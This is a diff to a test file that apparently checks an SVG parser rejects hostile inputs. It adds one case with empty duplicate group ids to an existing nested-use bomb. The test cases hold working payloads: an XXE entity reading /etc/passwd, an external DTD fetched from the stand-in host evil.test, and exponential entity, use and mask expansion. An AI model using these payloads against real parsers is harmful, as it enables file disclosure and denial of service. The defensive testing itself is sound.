@@ -113,6 +113,8 @@ BOMB = "".join(f'<!ENTITY l{n} "{f"""&l{n - 1};""" * 10}">' for n in range(1, 9)
 TENS = "".join(
     f'<g id="g{n}">{f"""<use href="#g{n - 1}"/>""" * 10}</g>' for n in range(1, 9)
 )  # a hundred million rectangles
+EMPTY = "".join(f'<g id="g{n}"/>' for n in range(1, 9))
+"""Once more, with nothing in it: a reader takes the first of those that are called the same."""
 MASKS = "".join(
     f'<mask id="m{n}">{f"""<rect width="1" height="1" mask="url(#m{n - 1})"/>""" * 10}</mask>' for n in range(1, 9)
 )
@@ -132,6 +134,7 @@ MASKS = "".join(
         (b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + svg("<text>&x;</text>"), "entities"),
         (b'<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.test/x.dtd">%x;]>' + svg("<path/>"), "entities"),
         (svg(f'<g id="g0"><path/></g>{TENS}<use href="#g8"/>'), "too_complex"),
+        (svg(f'<g id="g0"><path/></g>{TENS}{EMPTY}<use href="#g8"/>'), "too_complex"),
         (svg(f"{MASKS}<rect width='1' height='1' mask='url(#m8)'/>"), "too_complex"),
         (svg('<g id="a"><use href="#a"/></g>'), "too_complex"),
         (svg("".join(f'<g id="c{n}"><use href="#c{n + 1}"/></g>' for n in range(500))), "too_complex"),
